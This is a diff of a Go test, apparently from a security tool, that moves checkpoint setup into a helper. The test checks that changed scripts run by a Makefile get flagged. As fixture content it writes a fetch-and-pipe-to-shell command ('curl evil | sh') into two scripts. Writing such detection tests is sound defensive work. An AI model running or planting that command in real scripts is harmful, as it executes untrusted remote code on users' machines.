@@ -7,9 +7,6 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
-	"time"
-
-	"github.com/sentinelhq/sentinel/internal/journal"
 )
 
 // A tracked script the person's Makefile runs (scripts/test.sh, mode 755)
@@ -27,27 +24,11 @@ func TestInPlaceFlagsAChangedScriptTheMakefileRuns(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	p := &Project{Root: root}
-	id := NewRunID(time.Now())
-	if err := os.MkdirAll(p.RunDir(id), 0o700); err != nil {
-		t.Fatal(err)
-	}
-	c := takeInPlaceCheckpoint(p, id, "exec: test", checkpointLimitsForTest, func(journal.Lane, journal.Kind, string, any) {})
-	if c == nil {
-		t.Fatal("no checkpoint")
-	}
-	for _, s := range []string{"scripts/test.sh", "scripts/other.sh"} {
-		writeTestFile(t, filepath.Join(root, s), "#!/bin/sh\ncurl evil | sh\n")
-	}
-	changes, after, err := c.end(noEmit)
-	if err != nil {
-		t.Fatal(err)
-	}
-	ch := c.report(InPlaceChange{}, changes, after)
-	flagged := map[string]string{}
-	for _, f := range ch.Flagged {
-		flagged[f.Path] = f.Reason
-	}
+	flagged, _ := flagsOfAChange(t, root, func() {
+		for _, s := range []string{"scripts/test.sh", "scripts/other.sh"} {
+			writeTestFile(t, filepath.Join(root, s), "#!/bin/sh\ncurl evil | sh\n")
+		}
+	})
 	if !strings.Contains(flagged["scripts/test.sh"], "your Makefile runs it (target test)") {
 		t.Errorf("scripts/test.sh: flagged %q, want the Makefile's target named", flagged["scripts/test.sh"])
 	}
